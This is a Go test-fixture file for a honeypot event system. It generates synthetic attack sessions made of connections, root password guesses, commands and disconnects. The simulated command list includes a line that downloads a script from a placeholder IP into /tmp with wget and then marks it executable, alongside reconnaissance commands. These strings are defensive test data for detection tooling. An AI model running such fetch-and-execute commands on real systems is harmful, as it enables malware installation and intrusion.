// Package eventtest makes realistic event streams for tests and
// benchmarks of everything downstream of the sensors.
package eventtest

import (
	"fmt"

	"github.com/decnet-go/decnet/internal/event"
)

// AttackWave returns n events shaped like real traffic: sessions from many
// sources across eight deckies and three services, each a connect, three
// password guesses, four commands and a disconnect (nine events a session).
// Session s comes from its own address, so every session is one attacker.
func AttackWave(n int) []event.Event {
	out := make([]event.Event, 0, n)
	for s := 0; len(out) < n; s++ {
		ip := fmt.Sprintf("198.51.%d.%d", s/250%250, s%250+1)
		decky := fmt.Sprintf("decky-%02d", s%8+1)
		svc := []string{"ssh", "http", "telnet"}[s%3]
		sess := event.NewID()
		mk := func(typ string) event.Event {
			e := event.New(decky, svc, typ)
			e.SrcIP, e.SrcPort, e.DstIP, e.DstPort, e.Proto, e.Session = ip, 40000+s%20000, "10.0.0.5", 22, "tcp", sess
			return e
		}
		out = append(out, mk(event.TypeConnect))
		for i := 0; i < 3; i++ {
			e := mk(event.TypeLoginAttempt)
			e.Fields = map[string]any{"username": "root", "method": "password", "client_version": "SSH-2.0-libssh_0.9.6"}
			e.Credential = event.NewCredential("root", event.SecretPlaintext, []byte(fmt.Sprintf("pass%d", (s+i)%50)), event.OutcomeFailure)
			out = append(out, e)
		}
		for _, c := range []string{"uname -a", "cat /proc/cpuinfo", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod +x x.sh"} {
			e := mk(event.TypeCommand)
			e.Fields = map[string]any{"command": c, "cwd": "/root", "username": "root"}
			out = append(out, e)
		}
		e := mk(event.TypeDisconnect)
		e.Fields = map[string]any{"duration_s": 12.5, "bytes_in": 913}
		out = append(out, e)
	}
	return out[:n]
}
